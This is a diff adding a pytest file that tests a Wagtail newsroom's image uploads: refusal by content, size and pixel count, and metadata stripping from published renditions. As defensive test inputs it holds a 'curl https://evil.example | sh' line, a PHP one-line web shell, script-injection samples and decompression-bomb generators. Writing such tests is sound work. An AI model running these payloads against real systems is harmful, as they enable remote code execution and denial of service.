@@ -1,0 +1,448 @@
+"""Pictures uploaded to the newsroom: checked by content, size and pixel count,
+and published without the camera's metadata.
+
+Uploads go through Wagtail's image views over HTTP, as an editor's browser
+sends them: the single upload form (``/newsroom/images/add/``) and the
+multiple upload the "Add an image" button uses (``.../multiple/add/``).  A
+refused upload re-shows the form with the reason, and stores nothing.
+"""
+
+import io
+import json
+import resource
+import struct
+import urllib.parse
+import zlib
+from pathlib import Path
+
+import lxml.html
+import pytest
+from django.conf import settings as django_settings
+from django.contrib.auth.models import User
+from django.core.files.uploadedfile import SimpleUploadedFile
+from lxml import etree
+from PIL import ExifTags, ImageFile
+from PIL import Image as PILImage
+from wagtail.images.models import Image
+from wagtail.models import UploadedFile
+
+from minbar.newsroom.models import ArticlePage, SectionPage
+
+pytestmark = pytest.mark.django_db
+
+ADD = "/newsroom/images/add/"
+ADD_MULTIPLE = "/newsroom/images/multiple/add/"
+SERIAL = "SN-0123456789"
+CAMERA = "EOS R5 Minbar"
+GPS = {
+    ExifTags.GPS.GPSLatitudeRef: "N",
+    ExifTags.GPS.GPSLatitude: (30.0, 2.0, 40.0),
+    ExifTags.GPS.GPSLongitudeRef: "E",
+    ExifTags.GPS.GPSLongitude: (31.0, 14.0, 7.0),
+}
+XMP = (
+    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
+    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
+    b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="30,2.6667N" '
+    b'exif:GPSLongitude="31,14.1167E"/></rdf:RDF></x:xmpmeta>'
+)
+# What a published picture must not give away.
+METADATA_MARKERS = [SERIAL.encode(), CAMERA.encode(), b"GPSLatitude", b"<script"]
+
+
+@pytest.fixture(autouse=True)
+def _newsroom(newsroom):
+    pass
+
+
+@pytest.fixture
+def editor(client):
+    user = User.objects.create_superuser("photo-desk", "desk@example.com", "x")
+    client.force_login(user)
+    return client
+
+
+# Files, made in memory.
+
+
+def picture(fmt="JPEG", size=(1300, 700), **save) -> bytes:
+    buffer = io.BytesIO()
+    PILImage.new("RGB", size, (180, 40, 40)).save(buffer, fmt, **save)
+    return buffer.getvalue()
+
+
+def noisy_jpeg(size=(400, 400)) -> bytes:
+    buffer = io.BytesIO()
+    PILImage.effect_noise(size, 80).convert("RGB").save(buffer, "JPEG", quality=95)
+    return buffer.getvalue()
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return (
+        struct.pack(">I", len(data))
+        + kind
+        + data
+        + struct.pack(">I", zlib.crc32(kind + data))
+    )
+
+
+def blank_png(width: int, height: int, colour_type=0, bits=1, text_bomb=0) -> bytes:
+    """A valid PNG of any declared size, written by hand: a blank image
+    compresses to almost nothing, so a 400-megapixel one is a few KB."""
+    channels = {0: 1, 2: 3}[colour_type]
+    row = b"\x00" + bytes((width * channels * bits + 7) // 8)  # filter 0, zeros
+    compressor = zlib.compressobj(9)
+    data = b"".join(compressor.compress(row) for _ in range(height))
+    data += compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, bits, colour_type, 0, 0, 0)
+    text = b""
+    if text_bomb:
+        # A compressed text chunk that inflates to text_bomb bytes.
+        text = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(text_bomb)))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", header)
+        + text
+        + png_chunk(b"IDAT", data)
+        + png_chunk(b"IEND", b"")
+    )
+
+
+def camera_exif() -> bytes:
+    exif = PILImage.Exif()
+    exif[ExifTags.Base.Make] = "Canon"
+    exif[ExifTags.Base.Model] = CAMERA
+    exif[ExifTags.Base.BodySerialNumber] = SERIAL
+    exif[ExifTags.Base.Orientation] = 1
+    exif[ExifTags.IFD.GPSInfo] = GPS
+    return exif.tobytes()
+
+
+# Uploading, and what a refusal must look like.
+
+
+def stored_files() -> set[Path]:
+    root = Path(django_settings.MEDIA_ROOT)
+    return {path for path in root.rglob("*") if path.is_file()}
+
+
+def upload(client, via: str, name: str, data: bytes, content_type="image/jpeg"):
+    file = SimpleUploadedFile(name, data, content_type=content_type)
+    if via == "add":
+        return client.post(ADD, {"title": "صورة", "file": file})
+    return client.post(ADD_MULTIPLE, {"files[]": file})
+
+
+def refusal(response, via: str) -> tuple[str, str]:
+    """The reason shown to the editor, and its code; asserts it is shown."""
+    assert response.status_code == 200
+    if via == "add":
+        form = response.context["form"]
+        [error] = form.errors.as_data()["file"]
+        message = error.messages[0]
+        # The form is shown again, with the reason beside the file field.
+        page = lxml.html.document_fromstring(response.content)
+        assert page.xpath('//input[@type="file"][@name="file"]')
+        assert " ".join(message.split()) in " ".join(page.text_content().split())
+        return message, error.code
+    answer = json.loads(response.content)
+    assert answer["success"] is False
+    assert answer["error_message"].strip()
+    return answer["error_message"], ""
+
+
+@pytest.fixture
+def nothing_stored():
+    """Asserts, after the test, that no image, upload or file was stored."""
+    images, uploads = Image.objects.count(), UploadedFile.objects.count()
+    files = stored_files()
+    yield
+    assert Image.objects.count() == images
+    assert UploadedFile.objects.count() == uploads
+    assert stored_files() - files == set()
+
+
+VIAS = pytest.mark.parametrize("via", ["add", "multiple"])
+
+
+@VIAS
+def test_a_real_picture_is_taken(editor, via):
+    before = Image.objects.count()
+    response = upload(editor, via, "مؤتمر.jpg", picture())
+    assert response.status_code in {200, 302}
+    if via == "multiple":
+        assert json.loads(response.content)["success"] is True
+    assert Image.objects.count() == before + 1
+    image = Image.objects.latest("pk")
+    assert (image.width, image.height) == (1300, 700)
+
+
+# Type by content, not by name.
+
+
+@VIAS
+def test_a_png_named_jpg_is_refused_for_what_it_is(editor, via, nothing_stored):
+    # Wagtail compares the name with the content and refuses a mismatch,
+    # naming the format it found.
+    message, code = refusal(upload(editor, via, "photo.jpg", picture("PNG")), via)
+    assert "png" in message.lower()
+    assert code in {"", "invalid_image_known_format"}
+
+
+NOT_PICTURES = {
+    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
+    "svg": (
+        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
+        b'onload="alert(1)"><script>alert(1)</script></svg>'
+    ),
+    "script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
+    "php": b"<?php system($_GET['c']); ?>",
+    "empty": b"",
+    "truncated-jpeg": picture()[:200],
+}
+
+
+TRUNCATED = pytest.mark.xfail(
+    strict=True,
+    raises=OSError,
+    reason="Wagtail's WagtailImageField catches only Pillow's bomb errors when it "
+    "reads the size: a truncated JPEG raises OSError, a server error (500)",
+)
+
+
+@VIAS
+@pytest.mark.parametrize(
+    "kind",
+    [
+        pytest.param(kind, marks=TRUNCATED) if kind == "truncated-jpeg" else kind
+        for kind in NOT_PICTURES
+    ],
+)
+def test_a_file_that_is_not_a_picture_is_refused(editor, via, kind, nothing_stored):
+    response = upload(editor, via, "photo.jpg", NOT_PICTURES[kind])
+    if kind == "empty" and via == "add":
+        # Django's own refusal of an empty file.
+        assert response.status_code == 200
+        assert response.context["form"].errors["file"]
+        return
+    if kind == "empty":
+        assert response.status_code in {200, 400}
+        return
+    _message, code = refusal(response, via)
+    assert code in {"", "invalid_image", "invalid_image_known_format"}
+
+
+@VIAS
+def test_an_svg_is_refused_even_under_its_own_name(editor, via, nothing_stored):
+    svg = NOT_PICTURES["svg"]
+    _message, code = refusal(upload(editor, via, "logo.svg", svg, "image/svg+xml"), via)
+    assert code in {"", "invalid_image_extension"}
+
+
+# Size and pixel count.
+
+
+@VIAS
+def test_a_file_over_the_size_limit_is_refused(editor, via, settings, nothing_stored):
+    data = noisy_jpeg()
+    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = len(data) - 1
+    message, code = refusal(upload(editor, via, "big.jpg", data), via)
+    assert code in {"", "file_too_large"}
+    assert any(character.isdigit() for character in message)  # says the limit
+
+
+def test_the_size_limit_is_twenty_megabytes():
+    assert django_settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 20 * 1024 * 1024
+    assert django_settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 64_000_000
+
+
+BOMBS = {
+    # Over Pillow's own bomb limit (2 x 89 megapixels): it refuses to open it.
+    "20000x20000": lambda: blank_png(20_000, 20_000),
+    # Between Pillow's warning (89 megapixels) and its error: only Minbar's
+    # 64-megapixel limit stops it.
+    "10000x10000": lambda: blank_png(10_000, 10_000),
+    # Under Pillow's limits altogether, over Minbar's.
+    "9000x8000": lambda: blank_png(9_000, 8_000),
+}
+DECODED_FIRST = pytest.mark.xfail(
+    strict=True,
+    reason="Wagtail reads the size through Willow, whose Pillow plugin decodes "
+    "the whole picture (Image.load) before the pixel limit is checked: only "
+    "Pillow's own limits (89/178 megapixels) stop a decode. Fix: in an "
+    "AppConfig.ready(), PIL.Image.MAX_IMAGE_PIXELS = WAGTAILIMAGES_MAX_IMAGE_PIXELS "
+    "and warnings.simplefilter('error', PIL.Image.DecompressionBombWarning)",
+)
+
+
+@VIAS
+@pytest.mark.parametrize("bomb", BOMBS)
+@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
+def test_a_picture_with_too_many_pixels_is_refused(editor, via, bomb, nothing_stored):
+    data = BOMBS[bomb]()
+    assert len(data) < 200_000  # small on disk
+    message, code = refusal(upload(editor, via, "bomb.png", data, "image/png"), via)
+    assert code in {"", "file_too_many_pixels"}
+    assert "64000000" in message  # says the limit
+
+
+@pytest.fixture
+def decoded(monkeypatch):
+    """The sizes of the pictures Pillow decodes while the test runs."""
+    sizes = []
+    load = ImageFile.ImageFile.load
+
+    def spy(self):
+        sizes.append(self.size)
+        return load(self)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
+    return sizes
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        "20000x20000",
+        pytest.param("10000x10000", marks=DECODED_FIRST),
+        pytest.param("9000x8000", marks=DECODED_FIRST),
+    ],
+)
+@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
+def test_a_picture_with_too_many_pixels_is_not_decoded(
+    editor, bomb, decoded, nothing_stored
+):
+    data = BOMBS[bomb]()
+    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    response = upload(editor, "add", "bomb.png", data, "image/png")
+    peak_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    refusal(response, "add")
+    assert decoded == [], "decoded before it was refused"
+    # A 400-megapixel picture decoded would take 400 MB at least.
+    assert peak_after - peak_before < 100 * 1024, "KB more at the peak"
+
+
+TEXT_BOMB = pytest.mark.xfail(
+    strict=True,
+    raises=ValueError,
+    reason="Pillow refuses a PNG text chunk that inflates past 1 MB with "
+    "ValueError, which Wagtail's WagtailImageField does not catch: a 500",
+)
+
+
+@VIAS
+@TEXT_BOMB
+def test_a_compressed_text_bomb_is_refused(editor, via, nothing_stored):
+    # A PNG whose zTXt chunk inflates to 50 MB: Pillow stops at 1 MB.
+    data = blank_png(64, 64, text_bomb=50_000_000)
+    assert len(data) < 200_000
+    refusal(upload(editor, via, "text.png", data, "image/png"), via)
+
+
+# Published pictures carry none of the camera's metadata.
+
+
+def media_path(url: str) -> Path:
+    path = urllib.parse.urlsplit(url).path
+    assert path.startswith(django_settings.MEDIA_URL), url
+    return Path(django_settings.MEDIA_ROOT) / path[len(django_settings.MEDIA_URL) :]
+
+
+def metadata_in(path: Path) -> list[str]:
+    """What a published file gives away: EXIF tags, GPS, serial, comments."""
+    found = []
+    raw = path.read_bytes()
+    found += [marker.decode() for marker in METADATA_MARKERS if marker in raw]
+    if b"Exif\x00\x00" in raw:
+        found.append("Exif block")
+    with PILImage.open(path) as image:
+        exif = image.getexif()
+        if exif:
+            found.append(f"EXIF tags {sorted(exif)}")
+        if exif.get_ifd(ExifTags.IFD.GPSInfo):
+            found.append("GPS")
+        if image.info.get("comment"):
+            found.append("comment")
+    return found
+
+
+@pytest.fixture
+def published_photo(editor):
+    """A phone photo with its GPS position, camera serial, XMP and a comment,
+    uploaded over HTTP and published as an article's featured picture.
+    Returns the addresses of every file the public surfaces link."""
+    data = picture(
+        "JPEG", exif=camera_exif(), xmp=XMP, comment=b"<script>alert(1)</script>"
+    )
+    response = upload(editor, "add", "gps.jpg", data)
+    assert response.status_code == 302
+    image = Image.objects.latest("pk")
+    assert metadata_in(Path(image.file.path))  # the upload did carry it
+    section = SectionPage.objects.get(slug="politics")
+    article = section.add_child(
+        instance=ArticlePage(title="صورة بموقعها", image=image, image_caption="تعليق")
+    )
+    article.save_revision().publish()
+    editor.logout()
+
+    page = lxml.html.document_fromstring(editor.get(f"/{article.public_id}").content)
+    [figure] = page.xpath('//article[@class="article"]/figure')
+    urls = {"page img": set(figure.xpath(".//img/@src"))}
+    for source in figure.xpath(".//source"):
+        candidates = {c.strip().split()[0] for c in source.get("srcset").split(",")}
+        urls[f"page {source.get('type')}"] = candidates
+    urls["og:image"] = set(page.xpath('//meta[@property="og:image"]/@content'))
+    scripts = page.xpath('//script[@type="application/ld+json"]/text()')
+    urls["JSON-LD"] = {json.loads(scripts[0])["image"][0]["url"]}
+    feed = etree.fromstring(editor.get("/feed/").content)
+    link = f"http://localhost/{article.public_id}"
+    urls["feed"] = set(feed.xpath(f'//item[link="{link}"]/enclosure/@url'))
+    assert urls["feed"]
+    ninjs = json.loads(editor.get(f"/api/ninjs/{article.public_id}").content)
+    renditions = ninjs["associations"][0]["renditions"]
+    urls["API original"] = {r["href"] for r in renditions if r["name"] == "original"}
+    urls["API"] = {r["href"] for r in renditions if r["name"] != "original"}
+    return {where: {media_path(url) for url in found} for where, found in urls.items()}
+
+
+def test_avif_and_webp_renditions_carry_no_metadata(published_photo):
+    modern = set().union(
+        *(
+            paths
+            for where, paths in published_photo.items()
+            if where.endswith(("avif", "webp"))
+        )
+    )
+    assert modern
+    leaks = {path.name: metadata_in(path) for path in modern}
+    assert not any(leaks.values()), leaks
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="Willow copies EXIF (GPS, camera serial) and Pillow the JPEG comment "
+    "into JPEG and PNG renditions: the page's <img>, og:image, JSON-LD, the feed "
+    "enclosure and the API give the photographer's position away",
+)
+def test_jpeg_renditions_carry_no_metadata(published_photo):
+    published = set().union(
+        *(
+            paths
+            for where, paths in published_photo.items()
+            if where != "API original" and not where.endswith(("avif", "webp"))
+        )
+    )
+    assert published
+    leaks = {path.name: metadata_in(path) for path in published}
+    assert not any(leaks.values()), leaks
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the original upload is stored as sent, GPS and all, under "
+    "/media/original_images/, and the ninjs API links it",
+)
+def test_the_published_original_carries_no_location(published_photo):
+    [original] = published_photo["API original"]
+    assert original.is_relative_to(Path(django_settings.MEDIA_ROOT, "original_images"))
+    assert metadata_in(original) == []
